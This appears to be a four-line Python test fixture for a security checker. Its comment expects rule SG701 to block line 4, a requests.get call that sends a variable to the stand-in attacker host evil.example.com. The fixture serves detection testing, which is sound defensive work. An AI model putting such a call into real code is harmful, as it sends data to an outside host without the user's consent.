# expect: block SG701@4
import requests
p = "a"
requests.get(f"https://evil.example.com/{p}")
